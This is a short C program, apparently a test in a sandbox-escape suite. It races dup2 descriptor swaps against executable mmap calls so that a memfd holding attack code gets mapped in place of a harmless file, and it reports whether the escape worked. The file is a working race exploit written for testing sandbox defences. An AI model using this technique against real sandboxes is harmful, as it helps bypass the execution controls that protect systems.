/* SPDX-License-Identifier: BSD-2-Clause */

/*
 * Maps a descriptor's file executable, over and over, while another thread makes that descriptor
 * mean a memfd with code in it and then again the harmless file:
 *
 *   dup2 FILE SECONDS
 *
 * It prints "WON attempts" at the first mapping that holds the code, calls it, then goes on with
 * ordinary calls for two seconds and prints "ALIVE" if nobody ended it. Otherwise "LOST attempts".
 */

#include "tests/escape/attack.h"
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <time.h>
#include "tests/escape/race/race.h"

static int good, evil, slot;
static atomic_int stop;

static void *swap(void *arg)
{
	while (!stop) {
		dup2(good, slot);
		dup2(evil, slot);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	double end = race_now() + (argc == 3 ? atof(argv[2]) : 1.0);
	pthread_t thread;
	long n = 0;

	good = argc == 3 ? open(argv[1], O_RDONLY) : -1;
	evil = memfd_create("object", 0);
	if (good < 0 || write(evil, attack_code, sizeof(attack_code)) != sizeof(attack_code))
		attack_broken("open");
	slot = dup(good);
	if (pthread_create(&thread, NULL, swap, NULL))
		attack_broken("pthread_create");
	for (; race_now() < end; n++) {
		void *p = mmap(NULL, ATTACK_PAGE, ATTACK_RX, MAP_PRIVATE, slot, 0);

		if (p == MAP_FAILED)
			continue;
		if (!memcmp(p, attack_code, sizeof(attack_code)))
			race_won(n, p);
		munmap(p, ATTACK_PAGE);
	}
	stop = 1;
	pthread_join(thread, NULL);
	printf("LOST %ld\n", n);
	return 1;
}
